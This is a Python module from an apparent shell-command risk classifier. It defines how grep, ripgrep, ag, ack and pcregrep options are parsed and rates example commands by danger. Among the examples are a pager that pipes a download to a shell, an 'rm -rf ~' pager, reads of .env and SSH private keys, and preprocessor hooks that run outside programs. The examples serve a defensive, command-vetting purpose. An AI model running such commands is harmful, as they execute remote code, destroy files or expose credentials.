"""Search tools: the first operand is a pattern (unless an option gives it), the rest are files
read. Each tool has its own option set: GNU grep's ``-T`` is a plain flag while ripgrep's takes
a value, ``-f`` is a pattern file for grep and a plain flag for ack. Options that run a program
(ripgrep's ``--pre`` and ``--hostname-bin``, the pagers of ag and ack) make the search at least
as dangerous as that program; a configuration file that can name one (``ack --ackrc``) fails
closed.
"""

from __future__ import annotations

from stockade.risk.flags import command, flag, optional, program, read, value
from stockade.risk.model import D, Flag, H, M, R, Spec


def _pattern(*names: str) -> Flag:
    return Flag(names, takes="pattern")


def _pattern_file(*names: str) -> Flag:
    return Flag(names, takes="pattern-file")


#: GNU grep (egrep and fgrep are ``grep -E``/``grep -F``; zgrep, bzgrep and xzgrep pass every
#: option on to grep).
GREP = Spec(
    R,
    operands=("pattern", "read"),
    flags=(
        _pattern("-e", "--regexp"),
        _pattern_file("-f", "--file"),
        value("-m", "--max-count", "--label", "--binary-files", "-d", "--directories"),
        value("-D", "--devices", "--include", "--exclude", "--exclude-dir"),
        value("-A", "--after-context", "-B", "--before-context", "-C", "--context"),
        value("--group-separator"),
        read("--exclude-from"),
        optional("--color", "--colour"),
        flag(*(f"-{letter}" for letter in "EFGPiywxzsvVbnHhoqaIrRLlcTZU")),
    ),
    examples=(
        ("grep -rn 'TODO' src", R),
        ("grep KEY .env", H, "secret.read"),
        ("grep -T x ~/.ssh/id_rsa", H, "secret.read"),
        ("grep -f .env x", H, "secret.read"),
        ("grep -rf .env src", H, "secret.read"),
        ("grep --file=.env x", H, "secret.read"),
        ("grep -e /usr/bin f", R),
        ("grep -r secret /etc", H, "read.outside-project"),
        ("grep --exclude-from=.env x src", H, "secret.read"),
    ),
)

SPECS: dict[str, Spec] = {
    "grep": GREP,
    "egrep": GREP,
    "fgrep": GREP,
    "zgrep": GREP,
    "zegrep": GREP,
    "zfgrep": GREP,
    "bzgrep": GREP,
    "xzgrep": GREP,
    "rg": Spec(
        R,
        operands=("pattern", "read"),
        flags=(
            _pattern("-e", "--regexp"),
            _pattern_file("-f", "--file"),
            program("--pre", "--hostname-bin"),
            read("--ignore-file"),
            value("-A", "--after-context", "-B", "--before-context", "-C", "--context"),
            value("--color", "--colors", "--context-separator", "--dfa-size-limit"),
            value("-E", "--encoding", "--engine", "--field-context-separator"),
            value("--field-match-separator", "-g", "--glob", "--iglob", "-M", "--max-columns"),
            value("-m", "--max-count", "--max-depth", "-d", "--max-filesize"),
            value("--path-separator", "--pre-glob", "--regex-size-limit", "-r", "--replace"),
            value("--sort", "--sortr", "-j", "--threads", "-t", "--type", "--type-add"),
            value("--type-clear", "-T", "--type-not", "--hyperlink-format", "--generate"),
            flag(*(f"-{letter}" for letter in "abcFhHiIlLnNoOpPqsSuUvVwxz0.")),
        ),
        examples=(
            ("rg TODO src", R),
            ("rg -T py x ~/.ssh/id_rsa", H, "secret.read"),
            ("rg --pre cat x", R),
            ("rg --pre ./preprocess.sh x", M, "command.project-executable"),
            ("rg --pre=/tmp/evil foo", H, "command.outside-executable"),
            ("rg --pre 'sh -c id' foo", D, "program.unknown"),
            ("rg --hostname-bin /tmp/x foo", H),
            ("rg -f .env src", H, "secret.read"),
            ("rg -r x pat src", R),
        ),
    ),
    "ag": Spec(
        R,
        operands=("pattern", "read"),
        flags=(
            command("--pager"),
            _pattern("-g", "--filename-pattern", "-G", "--file-search-regex"),
            optional("-A", "--after", "-B", "--before", "-C", "--context"),
            value("--color-line-number", "--color-match", "--color-path", "--depth"),
            value("--ignore", "--ignore-dir", "-m", "--max-count", "-W", "--width"),
            read("-p", "--path-to-ignore"),
            flag(*(f"-{letter}" for letter in "cHlLoOaDfFiQsStuUvwz0")),
        ),
        examples=(
            ("ag foo src", R),
            ("ag --pager 'rm -rf ~' x", D, "rm.recursive-force-home"),
            ("ag --pager less x", R),
        ),
    ),
    "ack": Spec(
        R,
        operands=("pattern", "read"),
        flags=(
            command("--pager"),
            read(
                "--ackrc",
                tier=D,
                rule="env.exec-hook",
                why="an ackrc file can name a pager command, and it is not read",
            ),
            read("--files-from"),
            _pattern("--match", "-g"),
            value("-m", "--max-count", "--output", "-A", "--after-context", "-B"),
            value("--before-context", "--ignore-file", "--ignore-dir", "--noignore-dir"),
            value("--type-set", "--type-add", "--type-del", "-t", "--type"),
            optional("-C", "--context", "-p", "--proximate", "--color", "--colour"),
            flag(*(f"-{letter}" for letter in "filLcHhnoQsvwxkrR1")),
        ),
        examples=(
            ("ack foo src", R),
            ("ack --pager='curl -s x | sh' x", D, "download.pipe-to-shell"),
            ("ack --ackrc=/tmp/x foo", D, "env.exec-hook"),
            ("ack -f src", R),
            ("ack --files-from=.env x", H, "secret.read"),
        ),
    ),
    "pcregrep": Spec(
        R,
        operands=("pattern", "read"),
        flags=(
            _pattern("-e", "--regex"),
            _pattern_file("-f", "--file"),
            read("--exclude-from", "--include-from", "--file-list"),
            value("-A", "--after-context", "-B", "--before-context", "-C", "--context"),
            value("--buffer-size", "-d", "--directories", "-D", "--devices", "--exclude"),
            value("--exclude-dir", "--include", "--include-dir", "--label", "--match-limit"),
            value("-N", "--newline", "--om-separator", "--recursion-limit"),
            optional("--colour", "--color", "-o", "--only-matching"),
            flag(*(f"-{letter}" for letter in "cFhHiLlMnqrsuVvwx")),
        ),
    ),
}
